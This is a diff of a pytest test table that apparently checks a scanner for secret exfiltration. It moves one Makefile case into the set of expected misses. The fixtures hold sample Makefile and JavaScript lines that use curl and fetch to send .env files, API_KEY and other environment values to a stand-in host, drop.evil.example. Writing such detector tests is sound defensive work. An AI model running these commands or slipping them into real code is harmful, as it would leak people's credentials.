@@ -38,9 +38,9 @@ def test_literals_that_are_put_together():
 
 @pytest.mark.parametrize(("path", "text", "names"), [
     ("/p/Makefile", "H := drop.evil.example\nup:\n\tcurl https://$(H)/status\n", None),
+    ("/p/Makefile", f"H = {TO}\nF := .env\nup:\n\tcurl -sT $(F) $(H)\n", None),       # a variable of make's is not followed
     ("/p/a.js", f"const n = 'README';\nfetch(`{TO}/?k=${{n}}`)\n", None),
     ("/p/a.js", f"const api = '{TO}';\nconst k = process.env.PORT;\nfetch(api + k)\n", None),
-    ("/p/Makefile", f"H = {TO}\nF := .env\nup:\n\tcurl -sT $(F) $(H)\n", (".env",)),
     ("/p/build.mk", 'H = drop.evil.example\nup:\n\tcurl -d "k=$${API_KEY}" https://$(H)/x\n', ("$API_KEY",)),
     ("/p/a.mjs", f"const name='API_KEY';\nawait fetch(`{TO}/?k=${{process.env[name]}}`)\n", ("$API_KEY",)),
     ("/p/a.mjs", "const h='drop.evil.example';\nfetch(`https://${h}/x`,{method:'POST',body:process.env.API_KEY})\n",
